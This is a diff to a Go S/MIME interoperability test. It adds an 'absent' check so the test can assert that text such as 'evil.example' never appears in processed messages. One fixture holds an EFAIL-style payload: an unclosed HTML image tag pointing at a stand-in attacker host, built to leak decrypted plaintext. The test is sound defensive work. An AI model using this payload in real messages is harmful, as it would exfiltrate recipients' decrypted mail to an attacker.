@@ -64,6 +64,7 @@ func TestInboundSMIMEInterop(t *testing.T) {
 		alg      string
 		warnings []reason.Code
 		body     string // must appear in the processed message
+		absent   string // must not appear in it
 	}{
 		{name: "plain", from: "alice@customer.example",
 			build: func(t testing.TB) []byte { return []byte(textEntity) },
@@ -202,7 +203,8 @@ func TestInboundSMIMEInterop(t *testing.T) {
 				return []byte("Content-Type: multipart/mixed; boundary=b2\r\n\r\n--b2\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/?\r\n--b2\r\n" +
 					string(enc) + "\r\n--b2--\r\n")
 			},
-			typ: result.SMIME, enc: ok, sign: none, warnings: []reason.Code{reason.PartiallyEncrypted}, body: "Hello from the customer"},
+			typ: result.SMIME, enc: ok, sign: none, warnings: []reason.Code{reason.PartiallyEncrypted}, body: "Hello from the customer",
+			absent: "evil.example"},
 	}
 	for _, tc := range tests {
 		t.Run(tc.name, func(t *testing.T) {
@@ -221,8 +223,8 @@ func TestInboundSMIMEInterop(t *testing.T) {
 			if !bytes.Contains(out.Raw, []byte("Subject: Interop test")) {
 				t.Errorf("processed message lost the outer headers:\n%.400s", out.Raw)
 			}
-			if tc.name == "encrypted part next to plain text (EFAIL)" && bytes.Contains(out.Raw, []byte("evil.example")) {
-				t.Errorf("plaintext was spliced with unencrypted content")
+			if tc.absent != "" && bytes.Contains(out.Raw, []byte(tc.absent)) {
+				t.Errorf("processed message contains %q: plaintext was spliced with unencrypted content", tc.absent)
 			}
 		})
 	}
